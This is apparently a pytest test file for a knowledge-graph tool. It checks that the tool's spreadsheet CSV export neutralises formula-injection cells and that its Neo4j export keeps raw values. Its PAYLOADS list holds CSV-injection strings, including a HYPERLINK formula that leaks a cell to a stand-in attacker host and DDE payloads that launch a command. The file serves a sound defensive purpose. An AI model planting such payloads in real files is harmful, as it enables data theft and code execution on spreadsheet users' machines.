"""Issue 14, item 12: names, quotes and sentences written by an article's author reach CSV
files; a spreadsheet runs a cell that starts like a formula (CSV injection). The CSV for
spreadsheets (``csv`` format) neutralises such cells; the Neo4j import files keep every value
as it is (``neo4j-admin`` reads raw values, a prefix would change the data)."""

from __future__ import annotations

import csv
import io
import string
from pathlib import Path

import pytest
from rdflib import Graph

from kg.cli import main
from kg.export import EXPORTERS, export_all
from kg.rdf import to_graph
from kg.settings import Settings
from kg.types import Article, Entity, Evidence, Quote, Relation, Resolved

# as an attacker would write them: ASCII and full-width signs, behind spaces, line breaks
# and invisible marks, DDE and HYPERLINK payloads
PAYLOADS = (
    '=HYPERLINK("http://evil.example/?leak="&A1;"OTAN")',
    "=cmd|' /C calc'!A0",
    "+33 1 23 45 67 89",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\uff1d1+1",
    "\uff0bcmd",
    "\uff0d1",
    "\uff20SUM(A1)",
    "  =1+1",
    "\u00a0=1+1",
    "\u3000\uff1d1",
    "\u200b=1+1",
    "\ufeff@A1",
    "\n=1+1",
)
# spreadsheets skip these before looking at the first character (the test's own list)
INVISIBLE = string.whitespace + "\u00a0\u3000\u200b\u200c\u200d\u2060\ufeff"


def runs_as_formula(cell: str) -> bool:
    if cell[:1] in ("\t", "\r"):
        return True
    return cell.lstrip(INVISIBLE)[:1] in ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")


TEXT = " ".join(f"{p.strip()} a critiqué Paris." for p in PAYLOADS)
ARTICLE = Article(id="hostile.txt", text=TEXT, path="hostile.txt", sha256="f" * 64, title="=1+1")


def evidence(n: int) -> Evidence:
    return Evidence(article=ARTICLE.id, sentence=f"{PAYLOADS[n]} a critiqué Paris.", start=n, end=n + 10)


ENTITIES = (
    *(Entity(key=f"hostile_{n}", label=p, cls="Person", aliases=frozenset({f"-{n}", f"@alias{n}"})) for n, p in enumerate(PAYLOADS)),
    Entity(key="Paris", label="Paris", cls="GeopoliticalEntity"),
)
RESOLVED = Resolved(
    articles=(ARTICLE,),
    entities=ENTITIES,
    relations=tuple(
        Relation(subject=f"hostile_{n}", predicate="criticizes", object="Paris", evidence=evidence(n), rule="=rule", confidence=0.5 + n / 100)
        for n in range(len(PAYLOADS))
    ),
    quotes=tuple(
        Quote(key=f"q{n}", text=p, speaker=f"hostile_{n}", article=ARTICLE.id, start=n, end=n + 5, evidence=evidence(n), rule="quote", confidence=0.7)
        for n, p in enumerate(PAYLOADS)
    ),
    mentions={ARTICLE.id: tuple(e.key for e in ENTITIES)},
)


@pytest.fixture(scope="module")
def hostile() -> Graph:
    return to_graph(RESOLVED, settings=Settings(base_iri="https://example.org/hostile/"))


def read(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8-sig") as handle:
        return list(csv.reader(handle))


def test_csv_injection_spreadsheet_csv_runs_no_cell(hostile: Graph, tmp_path: Path) -> None:
    written = export_all(hostile, "csv", tmp_path)
    assert [p.relative_to(tmp_path).as_posix() for p in written] == ["csv/entities.csv", "csv/relations.csv", "csv/quotes.csv"]
    cells = [cell for path in written for row in read(path) for cell in row]
    assert not [cell for cell in cells if runs_as_formula(cell)]
    # nothing is lost: each payload is there, behind one apostrophe, as label, quote and evidence
    entities, relations, quotes = (read(p) for p in written)
    assert sorted(row[1] for row in entities[1:] if row[1] != "Paris") == sorted("'" + p for p in PAYLOADS)
    assert sorted(row[3] for row in quotes[1:]) == sorted("'" + p for p in PAYLOADS)
    assert sorted(row[1] for row in relations[1:]) == sorted("'" + p for p in PAYLOADS)
    assert all(row[-1].startswith("'") for row in relations[1:])  # the evidence sentences
    aliases = {row[4] for row in entities[1:] if row[1] != "Paris"}
    assert aliases == {f"'-{n}; @alias{n}" for n in range(len(PAYLOADS))}


def test_csv_injection_numbers_stay_numbers(hostile: Graph, tmp_path: Path) -> None:
    (path,) = [p for p in export_all(hostile, "csv", tmp_path) if p.name == "relations.csv"]
    header, *rows = read(path)
    confidence, statements = header.index("confidence"), header.index("statements")
    assert sorted(float(row[confidence]) for row in rows) == pytest.approx(sorted(0.5 + n / 100 for n in range(len(PAYLOADS))))
    assert {row[statements] for row in rows} == {"1"}


def test_csv_injection_negative_number_is_not_quoted(tmp_path: Path) -> None:
    # a confidence below zero is not what kg writes, but a number column must stay a number
    odd = Resolved(
        articles=(ARTICLE,),
        entities=(ENTITIES[0], ENTITIES[-1]),
        relations=(Relation(subject="hostile_0", predicate="criticizes", object="Paris", evidence=evidence(0), rule="r", confidence=-0.25),),
        quotes=(),
        mentions={ARTICLE.id: ("hostile_0", "Paris")},
    )
    (path,) = [p for p in export_all(to_graph(odd), "csv", tmp_path) if p.name == "relations.csv"]
    header, row = read(path)
    assert row[header.index("confidence")] == "-0.25"


def test_csv_injection_neo4j_files_keep_values_as_they_are(hostile: Graph, tmp_path: Path) -> None:
    nodes, relationships = (read(p) for p in export_all(hostile, "neo4j", tmp_path))
    assert sorted(row[1] for row in nodes[1:] if row[1] != "Paris") == sorted(PAYLOADS)
    assert sorted(row[-1] for row in relationships[1:]) == sorted(f"{p} a critiqué Paris." for p in PAYLOADS)


def test_csv_injection_through_the_command_line(hostile: Graph, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    source = tmp_path / "hostile.ttl"
    hostile.serialize(source, format="turtle")
    assert main(["export", "--format", "csv,neo4j", "--graph", str(source), "--out", str(tmp_path / "out")]) == 0
    capsys.readouterr()
    for name in EXPORTERS["csv"].filenames:
        assert not [cell for row in read(tmp_path / "out" / name) for cell in row if runs_as_formula(cell)], name
    raw = (tmp_path / "out" / "neo4j" / "nodes.csv").read_text(encoding="utf-8")
    assert io.StringIO(raw).readline().startswith("iri:ID,")  # the neo4j-admin header, no byte order mark
    assert any(runs_as_formula(row[1]) for row in csv.reader(io.StringIO(raw, newline="")))
